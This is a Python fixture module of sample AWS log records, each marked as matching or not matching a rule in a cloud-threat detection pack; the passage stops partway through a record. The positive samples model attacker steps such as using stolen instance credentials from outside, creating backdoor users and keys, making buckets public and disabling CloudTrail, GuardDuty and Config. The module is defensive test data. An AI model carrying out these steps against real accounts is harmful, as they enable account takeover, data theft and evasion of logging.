"""Positive and negative records for each rule of the detection pack (`backtrail/detect/rules`).

CASES maps a rule id to {"type": log type, "positive": [...], "negative": [...]}: every positive
must match the rule, no negative may. JSON types (cloudtrail, waf, route53resolver, guardduty)
give one record as a dict, shaped as AWS writes it; delimited types (vpcflow, alb, s3access) give
the raw log line. Negatives are near misses: the same event or request with benign parameters.
Records follow the AWS documentation (CloudTrail record contents and sign-in events, VPC flow log
v2 default format, ALB access log entries, S3 server access log format, WAF log fields, Resolver
query log format, GuardDuty finding format); addresses are documentation ranges or private.
"""
from __future__ import annotations

import copy

ACCT = "111111111111"
REGION = "us-east-1"
ATTACKER = "198.51.100.77"
INSTANCE = "i-0abc123def4567890"
UA_CLI = "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-1016-aws exe/x86_64.ubuntu.22 prompt/off"
UA_BROWSER = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
              "Version/17.4 Safari/605.1.15")
_ids = iter(range(1, 10_000))


def _uuid() -> str:
    return f"3f6b2a1e-8c4d-4e7f-9a0b-{next(_ids):012d}"


# ---- CloudTrail identities --------------------------------------------------------------------
def iam_user(name: str = "alice", key: str = "AKIAIOSFODNN7EXAMPLE") -> dict:
    return {"type": "IAMUser", "principalId": "AIDAJ45Q7YFFAREXAMPLE", "arn": f"arn:aws:iam::{ACCT}:user/{name}",
            "accountId": ACCT, "accessKeyId": key, "userName": name}


def root() -> dict:
    return {"type": "Root", "principalId": ACCT, "arn": f"arn:aws:iam::{ACCT}:root", "accountId": ACCT,
            "accessKeyId": ""}


def role(name: str = "web-app-role", session: str = INSTANCE, ec2: bool | None = None) -> dict:
    rid = "AROAJ2UCCR6DPCEXAMPLE"
    ident = {"type": "AssumedRole", "principalId": f"{rid}:{session}",
             "arn": f"arn:aws:sts::{ACCT}:assumed-role/{name}/{session}", "accountId": ACCT,
             "accessKeyId": "ASIAEXAMPLESSRF00001",
             "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": rid,
                                                  "arn": f"arn:aws:iam::{ACCT}:role/{name}", "accountId": ACCT,
                                                  "userName": name},
                                "attributes": {"creationDate": "2026-11-02T12:00:03Z", "mfaAuthenticated": "false"}}}
    if ec2 if ec2 is not None else session.startswith("i-"):
        ident["sessionContext"]["ec2RoleDelivery"] = "2.0"
    return ident


def ct(name: str, source: str, ident: dict | None = None, req: dict | None = None, resp: dict | None = None,
       ip: str = "192.0.2.25", ua: str = UA_CLI, error: tuple[str, str] | None = None, **extra) -> dict:
    """One CloudTrail management-event record, fields in the order CloudTrail writes them."""
    r = {"eventVersion": "1.09", "userIdentity": ident or iam_user(), "eventTime": "2026-11-02T14:02:11Z",
         "eventSource": f"{source}.amazonaws.com", "eventName": name, "awsRegion": REGION,
         "sourceIPAddress": ip, "userAgent": ua}
    if error:
        r |= {"errorCode": error[0], "errorMessage": error[1]}
    r |= {"requestParameters": req, "responseElements": resp, "requestID": _uuid(), "eventID": _uuid(),
          "readOnly": False, "eventType": "AwsApiCall", "managementEvent": True, "recipientAccountId": ACCT,
          "eventCategory": "Management"}
    r |= extra
    return r


def signin(ident: dict, ok: bool = True, mfa: str = "Yes", ip: str = "192.0.2.40") -> dict:
    """A console sign-in record (eventType AwsConsoleSignIn; a failure has errorMessage, no errorCode)."""
    ident = {k: v for k, v in ident.items() if k != "accessKeyId"}
    r = {"eventVersion": "1.08", "userIdentity": ident, "eventTime": "2026-11-02T09:14:05Z",
         "eventSource": "signin.amazonaws.com", "eventName": "ConsoleLogin", "awsRegion": REGION,
         "sourceIPAddress": ip, "userAgent": UA_BROWSER}
    if not ok:
        r["errorMessage"] = "Failed authentication"
    r |= {"requestParameters": None, "responseElements": {"ConsoleLogin": "Success" if ok else "Failure"},
          "additionalEventData": {"LoginTo": "https://console.aws.amazon.com/console/home?state=hashArgs%23",
                                  "MobileVersion": "No", "MFAUsed": mfa},
          "eventID": _uuid(), "readOnly": False, "eventType": "AwsConsoleSignIn", "managementEvent": True,
          "recipientAccountId": ACCT, "eventCategory": "Management"}
    return r


def s3ct(name: str, bucket: str, ident: dict | None = None, req: dict | None = None, ip: str = "192.0.2.25",
         **kw) -> dict:
    req = {"bucketName": bucket, "Host": f"{bucket}.s3.{REGION}.amazonaws.com", **(req or {})}
    r = ct(name, "s3", ident, req, None, ip, **kw)
    r["additionalEventData"] = {"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256",
                                "bytesTransferredIn": 0, "AuthenticationMethod": "AuthHeader",
                                "x-amz-id-2": "EXAMPLEhostid123=", "bytesTransferredOut": 0}
    r["resources"] = [{"accountId": ACCT, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{bucket}"}]
    return r


def _with(record: dict, **changes) -> dict:
    r = copy.deepcopy(record)
    r.update(changes)
    return r


DENIED = ("AccessDenied", "User: arn:aws:sts::111111111111:assumed-role/web-app-role/i-0abc123def4567890 is not "
          "authorized to perform: iam:CreateUser on resource: arn:aws:iam::111111111111:user/backup-svc because no "
          "identity-based policy allows the iam:CreateUser action")
SERVICE_ASSUME = {"type": "AWSService", "invokedBy": "lambda.amazonaws.com"}
ADMIN = role("admin-break-glass", "maint")
PUBLIC_POLICY = {"Version": "2012-10-17", "Statement": [
    {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::acme-customer-exports/*"}]}
TLS_ONLY_POLICY = {"Version": "2012-10-17", "Statement": [
    {"Sid": "DenyInsecureTransport", "Effect": "Deny", "Principal": "*", "Action": "s3:*",
     "Resource": ["arn:aws:s3:::acme-app-assets", "arn:aws:s3:::acme-app-assets/*"],
     "Condition": {"Bool": {"aws:SecureTransport": "false"}}}]}
VPCE_POLICY = {"Version": "2012-10-17", "Statement": [
    {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::acme-app-assets/*",
     "Condition": {"StringEquals": {"aws:SourceVpce": "vpce-1a2b3c4d"}}}]}
ACCOUNT_POLICY = {"Version": "2012-10-17", "Statement": [
    {"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::222222222222:root"}, "Action": "s3:GetObject",
     "Resource": "arn:aws:s3:::acme-app-assets/*"}]}
AWS_STAR_POLICY = {"Version": "2012-10-17", "Statement": [
    {"Sid": "Public", "Principal": {"AWS": "*"}, "Effect": "Allow", "Action": ["s3:GetObject"],
     "Resource": "arn:aws:s3:::acme-public/*"}]}


def sg_ingress(cidr: str, v6: bool = False, port: int = 22) -> dict:
    ranges = ({"ipRanges": {}, "ipv6Ranges": {"items": [{"cidrIpv6": cidr}]}} if v6
              else {"ipRanges": {"items": [{"cidrIp": cidr}]}, "ipv6Ranges": {}})
    return {"groupId": "sg-0123456789abcdef0", "ipPermissions": {"items": [
        {"ipProtocol": "tcp", "fromPort": port, "toPort": port, "groups": {}, **ranges, "prefixListIds": {}}]}}


def pab(**flags) -> dict:
    conf = {"BlockPublicAcls": True, "IgnorePublicAcls": True, "BlockPublicPolicy": True,
            "RestrictPublicBuckets": True} | flags
    return {"PublicAccessBlockConfiguration": {"xmlns": "http://s3.amazonaws.com/doc/2006-03-01/", **conf},
            "publicAccessBlock": ""}


ACL_PUBLIC = {"AccessControlPolicy": {"AccessControlList": {"Grant": [
    {"Grantee": {"xsi:type": "CanonicalUser", "xmlns:xsi": "http://www.w3.org/2001/XMLSchema-instance",
                 "ID": "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be"}, "Permission": "FULL_CONTROL"},
    {"Grantee": {"xsi:type": "Group", "xmlns:xsi": "http://www.w3.org/2001/XMLSchema-instance",
                 "URI": "http://acs.amazonaws.com/groups/global/AllUsers"}, "Permission": "READ"}]},
    "xmlns": "http://s3.amazonaws.com/doc/2006-03-01/",
    "Owner": {"ID": "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be"}}, "acl": ""}
ACL_LOG_DELIVERY = {"AccessControlPolicy": {"AccessControlList": {"Grant": [
    {"Grantee": {"xsi:type": "Group", "xmlns:xsi": "http://www.w3.org/2001/XMLSchema-instance",
                 "URI": "http://acs.amazonaws.com/groups/s3/LogDelivery"}, "Permission": "WRITE"}]},
    "xmlns": "http://s3.amazonaws.com/doc/2006-03-01/",
    "Owner": {"ID": "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be"}}, "acl": ""}
ADMIN_INLINE = ('{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}')
ADMIN_INLINE_SPACED = ('{\n  "Version": "2012-10-17",\n  "Statement": [\n    {\n      "Action": [\n        "*"\n      ],\n'
                       '      "Resource": "*",\n      "Effect": "Allow"\n    }\n  ]\n}')
SCOPED_INLINE = ('{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":["s3:GetObject","s3:PutObject"],'
                 '"Resource":"arn:aws:s3:::acme-app-assets-1111/*"},'
                 '{"Effect":"Deny","Action":"*","Resource":"*","Condition":{"Bool":{"aws:MultiFactorAuthPresent":"false"}}}]}')
ASSUME_RESP = {"credentials": {"accessKeyId": "ASIAEXAMPLEADMIN0002", "sessionToken": "IQoJb3JpZ2luX2VjEXAMPLE",
                               "expiration": "Nov 2, 2026, 3:10:46 PM"},
               "assumedRoleUser": {"assumedRoleId": "AROAEXAMPLEADMINROLE:maint",
                                   "arn": f"arn:aws:sts::{ACCT}:assumed-role/admin-break-glass/maint"}}
SSO = role("AWSReservedSSO_AdministratorAccess_0123456789abcdef", "alice@example.com")
S3_GET = s3ct("GetObject", "acme-app-assets-1111", role(), {"key": "static/app.js"}, ip="10.0.3.17",
              ua="aws-sdk-java/2.25.16 Linux/5.10 OpenJDK_64-Bit_Server_VM/17.0.10")
S3_GET["eventCategory"], S3_GET["managementEvent"] = "Data", False


# ---- delimited lines --------------------------------------------------------------------------
def flow(src: str, dst: str, sport: int, dport: int, action: str = "ACCEPT", nbytes: int = 840,
         packets: int = 10, proto: int = 6) -> str:
    """A VPC flow log record in the default (version 2) format."""
    return (f"2 {ACCT} eni-0c5d8e2f4a6b19370 {src} {dst} {sport} {dport} {proto} {packets} {nbytes} "
            f"1793714400 1793714460 {action} OK")


TG = f"arn:aws:elasticloadbalancing:{REGION}:{ACCT}:targetgroup/web-app-tg/8c3e1f5a2b7d9046"
CERT = f"arn:aws:acm:{REGION}:{ACCT}:certificate/3f6b2a1e-8c4d-4e7f-9a0b-5d2c1e8f7a63"
CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 "
          "Safari/537.36")


def alb(path: str, ua: str = CHROME, status: int = 200, client: str = "203.0.113.50", method: str = "GET") -> str:
    """An Application Load Balancer access log entry for an HTTPS request forwarded to the target."""
    return ("https 2026-11-02T13:58:52.812345Z app/web-alb/5f2a9c1d3b4e6f70 " + client + ":51234 10.0.2.25:8080 "
            "0.000 0.012 0.000 " + f"{status} {status} " + "412 1372 "
            '"' + method + " https://shop.example.com:443" + path + ' HTTP/1.1" "' + ua + '" '
            "ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 " + TG + ' "Root=1-6a1f3c9e-2b7d4e809c5a1d3e7f2b8a64" '
            '"shop.example.com" "' + CERT + '" 0 2026-11-02T13:58:52.800000Z "waf,forward" "-" "-" '
            '"10.0.2.25:8080" "' + str(status) + '" "-" "-" TID_0123456789abcdef0123456789abcdef "-" "-" "-"')


OWNER = "7c1e9a4f3b2d8e6a0f5c4b3a29d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0"


def s3log(op: str, key: str, uri: str, status: int = 200, requester: str = f"arn:aws:iam::{ACCT}:user/alice",
          ip: str = "192.0.2.25", sent: str = "-", size: str = "-", ua: str = UA_CLI) -> str:
    """An S3 server access log record (bucket acme-customer-exports)."""
    return (f"{OWNER} acme-customer-exports [02/Nov/2026:16:38:56 +0000] {ip} {requester} 3E57427F3EXAMPLE {op} "
            f'{key} "{uri}" {status} - {sent} {size} 41 12 "-" "{ua}" - '
            "s9lzHYrFp76ZVxRcpX9+5cjAnEH2ROuNkd2BHfIa6UkFVdtjf5mKR3/eTPFvsiP/XV/VLi31234= SigV4 "
            "TLS_AES_128_GCM_SHA256 AuthHeader acme-customer-exports.s3.us-east-1.amazonaws.com TLSv1.3 - - -")


# ---- JSON types other than CloudTrail ---------------------------------------------------------
WEB_ACL = f"arn:aws:wafv2:{REGION}:{ACCT}:regional/webacl/shop-web-acl/6a1f3c9e-2b7d-4e80-9c5a-1d3e7f2b8a64"


def waf(uri: str, args: str, action: str = "ALLOW", ssrf_rule: bool = False) -> dict:
    match = [{"ruleId": "EC2MetaDataSSRF_QUERYARGUMENTS", "action": "COUNT", "overriddenAction": "BLOCK",
              "ruleMatchDetails": None}] if ssrf_rule else []
    rec = {"timestamp": 1793714332812, "formatVersion": 1, "webaclId": WEB_ACL,
           "terminatingRuleId": "Default_Action" if action == "ALLOW" else "AWS-AWSManagedRulesCommonRuleSet",
           "terminatingRuleType": "REGULAR" if action == "ALLOW" else "MANAGED_RULE_GROUP", "action": action,
           "terminatingRuleMatchDetails": [], "httpSourceName": "ALB",
           "httpSourceId": f"{ACCT}-app/web-alb/5f2a9c1d3b4e6f70",
           "ruleGroupList": [{"ruleGroupId": "AWS#AWSManagedRulesCommonRuleSet", "terminatingRule": None,
                              "nonTerminatingMatchingRules": match, "excludedRules": None, "customerConfig": None}],
           "rateBasedRuleList": [], "nonTerminatingMatchingRules": [], "requestHeadersInserted": None,
           "responseCodeSent": None,
           "httpRequest": {"clientIp": ATTACKER, "country": "NL",
                           "headers": [{"name": "Host", "value": "shop.example.com"},
                                       {"name": "User-Agent", "value": "python-requests/2.31.0"}],
                           "uri": uri, "args": args, "httpVersion": "HTTP/1.1", "httpMethod": "GET",
                           "requestId": "1-6a1f3c9e-2b7d4e809c5a1d3e7f2b8a64"}}
    if ssrf_rule:
        rec["labels"] = [{"name": "awswaf:managed:aws:core-rule-set:EC2MetaDataSSRF_QueryArguments"}]
    return rec


def dns(name: str, answer: str = "10.0.3.14") -> dict:
    return {"version": "1.100000", "account_id": ACCT, "region": REGION, "vpc_id": "vpc-0c7f3e2a91b54d6e8",
            "query_timestamp": "2026-11-02T13:56:41Z", "query_name": name, "query_type": "A", "query_class": "IN",
            "rcode": "NOERROR", "answers": [{"Rdata": answer, "Type": "A", "Class": "IN"}], "srcaddr": "10.0.2.25",
            "srcport": "48211", "transport": "UDP", "srcids": {"instance": INSTANCE}}


def finding(ftype: str, severity: float, archived: bool = False) -> dict:
    fid = "4ec9a1f0b2c3d4e5f60718293a4b5c6d"
    return {"schemaVersion": "2.0", "accountId": ACCT, "region": REGION, "partition": "aws", "id": fid,
            "arn": f"arn:aws:guardduty:{REGION}:{ACCT}:detector/12abc34d567e8fa901bc2d34eexample/finding/{fid}",
            "type": ftype,
            "resource": {"resourceType": "AccessKey", "accessKeyDetails": {
                "accessKeyId": "ASIAEXAMPLESSRF00001", "principalId": f"AROAJ2UCCR6DPCEXAMPLE:{INSTANCE}",
                "userName": "web-app-role", "userType": "AssumedRole"}},
            "service": {"serviceName": "guardduty", "detectorId": "12abc34d567e8fa901bc2d34eexample",
                        "action": {"actionType": "AWS_API_CALL", "awsApiCallAction": {
                            "api": "GetCallerIdentity", "serviceName": "sts.amazonaws.com",
                            "callerType": "Remote IP", "remoteIpDetails": {"ipAddressV4": ATTACKER}}},
                        "resourceRole": "TARGET", "eventFirstSeen": "2026-11-02T14:02:11.000Z",
                        "eventLastSeen": "2026-11-02T14:11:06.000Z", "archived": archived, "count": 11},
            "severity": severity, "createdAt": "2026-11-02T14:08:52.315Z", "updatedAt": "2026-11-02T14:23:40.128Z",
            "title": "Finding", "description": "Finding."}


CASES: dict[str, dict] = {
    # ================================================================ CloudTrail
    "bt-aws-cloudtrail-root-use": {"type": "cloudtrail", "positive": [
        ct("DescribeRegions", "ec2", root(), {"regionSet": {}}, ua=UA_BROWSER),
        ct("CreateAccessKey", "iam", root(), None, {"accessKey": {"accessKeyId": "AKIAEXAMPLEROOT00001"}}),
    ], "negative": [
        ct("DescribeRegions", "ec2", iam_user(), {"regionSet": {}}),
        _with(ct("DeleteObject", "s3", root()), eventType="AwsServiceEvent",
              userIdentity={**root(), "invokedBy": "s3.amazonaws.com"}),
    ]},
    "bt-aws-cloudtrail-root-console-login": {"type": "cloudtrail", "positive": [
        signin(root(), mfa="Yes"),
    ], "negative": [
        signin(root(), ok=False, mfa="No"),
        signin(iam_user()),
    ]},
    "bt-aws-cloudtrail-console-login-no-mfa": {"type": "cloudtrail", "positive": [
        signin(iam_user("bob"), mfa="No"),
    ], "negative": [
        signin(iam_user("bob"), mfa="Yes"),
        signin(iam_user("bob"), ok=False, mfa="No"),
        signin(role("AWSReservedSSO_ReadOnly_0123456789abcdef", "bob@example.com"), mfa="No"),
    ]},
    "bt-aws-cloudtrail-console-login-failed": {"type": "cloudtrail", "positive": [
        signin(iam_user("alice"), ok=False),
    ], "negative": [
        signin(iam_user("alice"), ok=True),
    ]},
    "bt-aws-cloudtrail-access-key-for-other-user": {"type": "cloudtrail", "positive": [
        ct("CreateAccessKey", "iam", ADMIN, {"userName": "backup-svc"},
           {"accessKey": {"userName": "backup-svc", "accessKeyId": "AKIAEXAMPLEBACKDOOR1", "status": "Active",
                          "createDate": "Nov 2, 2026, 2:12:51 PM"}}, ip=ATTACKER, ua="python-requests/2.31.0"),
    ], "negative": [
        ct("CreateAccessKey", "iam", iam_user("alice"), None,
           {"accessKey": {"userName": "alice", "accessKeyId": "AKIAEXAMPLEALICE0001", "status": "Active",
                          "createDate": "Nov 2, 2026, 2:12:51 PM"}}),
        ct("CreateAccessKey", "iam", role(), {"userName": "backup-svc"}, None, ip=ATTACKER,
           error=("AccessDenied", "not authorized to perform: iam:CreateAccessKey")),
    ]},
    "bt-aws-cloudtrail-iam-user-created": {"type": "cloudtrail", "positive": [
        ct("CreateUser", "iam", ADMIN, {"userName": "backup-svc"},
           {"user": {"path": "/", "userName": "backup-svc", "userId": "AIDAEXAMPLEBACKUPSVC",
                     "arn": f"arn:aws:iam::{ACCT}:user/backup-svc", "createDate": "Nov 2, 2026, 2:12:02 PM"}},
           ip=ATTACKER),
        ct("CreateUser", "iam", role(), {"userName": "backup-svc"}, ip=ATTACKER, error=DENIED),
    ], "negative": [
        ct("CreateRole", "iam", iam_user(), {"roleName": "app-role", "assumeRolePolicyDocument": "{}"}),
        ct("GetUser", "iam", iam_user(), {"userName": "backup-svc"}),
    ]},
    "bt-aws-cloudtrail-trail-disabled": {"type": "cloudtrail", "positive": [
        ct("StopLogging", "cloudtrail", iam_user(), {"name": f"arn:aws:cloudtrail:{REGION}:{ACCT}:trail/org-trail"}),
        ct("DeleteTrail", "cloudtrail", ADMIN, {"name": "org-trail"}, ip=ATTACKER),
    ], "negative": [
        ct("StartLogging", "cloudtrail", iam_user(), {"name": f"arn:aws:cloudtrail:{REGION}:{ACCT}:trail/org-trail"}),
        ct("StopLogging", "cloudtrail", iam_user(), {"name": "org-trail"},
           error=("AccessDenied", "not authorized to perform: cloudtrail:StopLogging")),
    ]},
    "bt-aws-cloudtrail-guardduty-disabled": {"type": "cloudtrail", "positive": [
        ct("UpdateDetector", "guardduty", iam_user(), {"detectorId": "12abc34d567e8fa901bc2d34eexample",
                                                       "enable": False}),
        ct("DeleteDetector", "guardduty", ADMIN, {"detectorId": "12abc34d567e8fa901bc2d34eexample"}),
    ], "negative": [
        ct("UpdateDetector", "guardduty", iam_user(), {"detectorId": "12abc34d567e8fa901bc2d34eexample",
                                                       "enable": True, "findingPublishingFrequency": "SIX_HOURS"}),
        ct("UpdateDetector", "guardduty", iam_user(), {"detectorId": "12abc34d567e8fa901bc2d34eexample",
                                                       "findingPublishingFrequency": "FIFTEEN_MINUTES"}),
    ]},
    "bt-aws-cloudtrail-config-disabled": {"type": "cloudtrail", "positive": [
        ct("StopConfigurationRecorder", "config", iam_user(), {"configurationRecorderName": "default"}),
        ct("DeleteDeliveryChannel", "config", iam_user(), {"deliveryChannelName": "default"}),
    ], "negative": [
        ct("StartConfigurationRecorder", "config", iam_user(), {"configurationRecorderName": "default"}),
        ct("PutDeliveryChannel", "config", iam_user(), {"deliveryChannel": {"name": "default",
                                                                            "s3BucketName": "acme-config"}}),
    ]},
    "bt-aws-cloudtrail-sg-ingress-open-world": {"type": "cloudtrail", "positive": [
        ct("AuthorizeSecurityGroupIngress", "ec2", iam_user(), sg_ingress("0.0.0.0/0"),
           {"requestId": _uuid(), "_return": True}),
        ct("AuthorizeSecurityGroupIngress", "ec2", iam_user(), sg_ingress("::/0", v6=True, port=3389),
           {"requestId": _uuid(), "_return": True}),
    ], "negative": [
        ct("AuthorizeSecurityGroupIngress", "ec2", iam_user(), sg_ingress("10.0.0.0/16"),
           {"requestId": _uuid(), "_return": True}),
        ct("RevokeSecurityGroupIngress", "ec2", iam_user(), sg_ingress("0.0.0.0/0"),
           {"requestId": _uuid(), "_return": True}),
        ct("AuthorizeSecurityGroupIngress", "ec2", iam_user(), sg_ingress("0.0.0.0/0"), None,
           error=("UnauthorizedOperation", "You are not authorized to perform this operation.")),
    ]},
    "bt-aws-cloudtrail-s3-bucket-policy-public": {"type": "cloudtrail", "positive": [
        s3ct("PutBucketPolicy", "acme-customer-exports", iam_user("backup-svc", "AKIAEXAMPLEBACKDOOR1"),
             {"policy": "", "bucketPolicy": PUBLIC_POLICY}, ip="203.0.113.9"),
        s3ct("PutBucketPolicy", "acme-public", iam_user(), {"policy": "", "bucketPolicy": AWS_STAR_POLICY}),
    ], "negative": [
        s3ct("PutBucketPolicy", "acme-app-assets", iam_user(), {"policy": "", "bucketPolicy": TLS_ONLY_POLICY}),
        s3ct("PutBucketPolicy", "acme-app-assets", iam_user(), {"policy": "", "bucketPolicy": VPCE_POLICY}),
        s3ct("PutBucketPolicy", "acme-app-assets", iam_user(), {"policy": "", "bucketPolicy": ACCOUNT_POLICY}),
    ]},
    "bt-aws-cloudtrail-s3-bucket-acl-public": {"type": "cloudtrail", "positive": [
        s3ct("PutBucketAcl", "acme-public", iam_user(), ACL_PUBLIC),
        s3ct("PutBucketAcl", "acme-public", iam_user(), {"acl": "", "x-amz-acl": ["public-read"]}),
    ], "negative": [
        s3ct("PutBucketAcl", "acme-logs", iam_user(), ACL_LOG_DELIVERY),
        s3ct("PutBucketAcl", "acme-logs", iam_user(), {"acl": "", "x-amz-acl": ["private"]}),
    ]},
    "bt-aws-cloudtrail-s3-public-access-block-removed": {"type": "cloudtrail", "positive": [
        s3ct("DeleteBucketPublicAccessBlock", "acme-customer-exports", iam_user(), {"publicAccessBlock": ""}),
        s3ct("PutBucketPublicAccessBlock", "acme-customer-exports", iam_user(),
             pab(BlockPublicPolicy=False, RestrictPublicBuckets=False)),
    ], "negative": [
        s3ct("PutBucketPublicAccessBlock", "acme-customer-exports", iam_user(), pab()),
        s3ct("GetBucketPublicAccessBlock", "acme-customer-exports", iam_user(), {"publicAccessBlock": ""}),
    ]},
    "bt-aws-cloudtrail-admin-policy-attached": {"type": "cloudtrail", "positive": [
        ct("AttachUserPolicy", "iam", ADMIN, {"userName": "backup-svc",
                                              "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}, ip=ATTACKER),
        ct("PutRolePolicy", "iam", iam_user(), {"roleName": "app-role", "policyName": "all",
                                                "policyDocument": ADMIN_INLINE}),
        ct("PutUserPolicy", "iam", iam_user(), {"userName": "bob", "policyName": "all",
                                                "policyDocument": ADMIN_INLINE_SPACED}),
    ], "negative": [
        ct("AttachUserPolicy", "iam", iam_user(), {"userName": "bob",
                                                   "policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"}),
        ct("AttachRolePolicy", "iam", iam_user(), {"roleName": "amplify-role",
                                                   "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess-Amplify"}),
        ct("PutRolePolicy", "iam", iam_user(), {"roleName": "app-role", "policyName": "assets",
                                                "policyDocument": SCOPED_INLINE}),
    ]},
    "bt-aws-cloudtrail-role-chaining": {"type": "cloudtrail", "positive": [
        ct("AssumeRole", "sts", role(), {"roleArn": f"arn:aws:iam::{ACCT}:role/admin-break-glass",
                                         "roleSessionName": "maint"}, ASSUME_RESP, ip=ATTACKER),
    ], "negative": [
        ct("AssumeRole", "sts", SERVICE_ASSUME, {"roleArn": f"arn:aws:iam::{ACCT}:role/lambda-exec-role",
                                                 "roleSessionName": "fn"}, None, ip="lambda.amazonaws.com",
           ua="lambda.amazonaws.com"),
        ct("AssumeRole", "sts", iam_user(), {"roleArn": f"arn:aws:iam::{ACCT}:role/deployer",
                                             "roleSessionName": "alice"}),
        ct("AssumeRole", "sts", SSO, {"roleArn": "arn:aws:iam::222222222222:role/OrganizationAccountAccessRole",
                                      "roleSessionName": "alice"}, ip="192.0.2.40"),
    ]},
    "bt-aws-cloudtrail-instance-credentials-outside": {"type": "cloudtrail", "positive": [
        ct("GetCallerIdentity", "sts", role(), ip=ATTACKER, ua="python-requests/2.31.0"),
        _with(S3_GET, sourceIPAddress=ATTACKER, userAgent="python-requests/2.31.0"),
    ], "negative": [
        S3_GET,
        _with(S3_GET, sourceIPAddress="198.51.100.200", vpcEndpointId="vpce-1a2b3c4d"),
        ct("GetCallerIdentity", "sts", role("batch-role", "botocore-session-1793714400"), ip=ATTACKER),
        ct("GetCallerIdentity", "sts", role("deployer", "i-am-deploying", ec2=False), ip=ATTACKER),
    ]},
    "bt-aws-cloudtrail-instance-getcalleridentity-outside": {"type": "cloudtrail", "positive": [
        ct("GetCallerIdentity", "sts", role(), ip=ATTACKER, ua="python-requests/2.31.0"),
    ], "negative": [
        ct("GetCallerIdentity", "sts", role(), ip="10.0.2.25"),
        ct("GetCallerIdentity", "sts", iam_user(), ip=ATTACKER),
        ct("ListBuckets", "sts", role(), ip=ATTACKER),
    ]},
    "bt-aws-cloudtrail-instance-role-list-buckets": {"type": "cloudtrail", "positive": [
        s3ct("ListBuckets", "", role(), ip=ATTACKER) | {"requestParameters": {"Host": "s3.amazonaws.com"}},
    ], "negative": [
        s3ct("ListBuckets", "", iam_user(), ip="192.0.2.25") | {"requestParameters": {"Host": "s3.amazonaws.com"}},
        S3_GET,
    ]},
    "bt-aws-cloudtrail-instance-role-iam-denied": {"type": "cloudtrail", "positive": [
        ct("CreateUser", "iam", role(), {"userName": "backup-svc"}, ip=ATTACKER, error=DENIED),
    ], "negative": [
        ct("ListUsers", "iam", iam_user("bob"), None, error=("AccessDenied", "not authorized: iam:ListUsers")),
        ct("GetRole", "iam", role(), {"roleName": "web-app-role"}, ip="10.0.2.25"),
    ]},
    "bt-aws-cloudtrail-secret-read-outside": {"type": "cloudtrail", "positive": [
        ct("GetSecretValue", "secretsmanager", role(), {"secretId": "prod/db/password"}, ip=ATTACKER),
    ], "negative": [
        ct("GetSecretValue", "secretsmanager", role(), {"secretId": "prod/db/password"}, ip="10.0.2.25"),
        ct("GetSecretValue", "secretsmanager", role(), {"secretId": "prod/db/password"}, ip="198.51.100.200",
           vpcEndpointId="vpce-0a1b2c3d4e5f60718"),
        ct("DescribeSecret", "secretsmanager", iam_user(), {"secretId": "prod/db/password"}, ip=ATTACKER),
    ]},
    "bt-aws-cloudtrail-kms-key-deletion": {"type": "cloudtrail", "positive": [
        ct("ScheduleKeyDeletion", "kms", iam_user(), {"keyId": "1234abcd-12ab-34cd-56ef-1234567890ab",
                                                      "pendingWindowInDays": 7},
           {"keyId": f"arn:aws:kms:{REGION}:{ACCT}:key/1234abcd-12ab-34cd-56ef-1234567890ab",
            "deletionDate": "Nov 9, 2026, 12:00:00 AM", "keyState": "PendingDeletion", "pendingWindowInDays": 7}),
        ct("DisableKey", "kms", iam_user(), {"keyId": "1234abcd-12ab-34cd-56ef-1234567890ab"}),
    ], "negative": [
        ct("EnableKey", "kms", iam_user(), {"keyId": "1234abcd-12ab-34cd-56ef-1234567890ab"}),
        ct("CancelKeyDeletion", "kms", iam_user(), {"keyId": "1234abcd-12ab-34cd-56ef-1234567890ab"}),
    ]},
    "bt-aws-cloudtrail-flow-logs-deleted": {"type": "cloudtrail", "positive": [
        ct("DeleteFlowLogs", "ec2", ADMIN, {"DeleteFlowLogsRequest": {"FlowLogId": {"content": "fl-0e2b7c9a4d1f63058",
                                                                                    "tag": 1}}}),
    ], "negative": [
        ct("CreateFlowLogs", "ec2", iam_user(), {"CreateFlowLogsRequest": {"ResourceId": {
            "content": "vpc-0c7f3e2a91b54d6e8", "tag": 1}, "TrafficType": "ALL"}}),
        ct("DeleteFlowLogs", "ec2", iam_user(), {"DeleteFlowLogsRequest": {"FlowLogId": {
            "content": "fl-0e2b7c9a4d1f63058", "tag": 1}}}, error=("UnauthorizedOperation", "not authorized")),
    ]},
    "bt-aws-cloudtrail-s3-logging-disabled": {"type": "cloudtrail", "positive": [
        s3ct("PutBucketLogging", "acme-customer-exports", iam_user(), {
            "BucketLoggingStatus": {"xmlns": "http://s3.amazonaws.com/doc/2006-03-01/"}, "logging": ""}),
    ], "negative": [
        s3ct("PutBucketLogging", "acme-customer-exports", iam_user(), {
            "BucketLoggingStatus": {"xmlns": "http://s3.amazonaws.com/doc/2006-03-01/",
                                    "LoggingEnabled": {"TargetBucket": "acme-s3-logs",
                                                       "TargetPrefix": "s3-access-logs/"}}, "logging": ""}),
    ]},
    "bt-aws-cloudtrail-login-profile-changed": {"type": "cloudtrail", "positive": [
        ct("CreateLoginProfile", "iam", ADMIN, {"userName": "backup-svc", "passwordResetRequired": False},
           {"loginProfile": {"userName": "backup-svc", "createDate": "Nov 2, 2026, 2:13:20 PM",
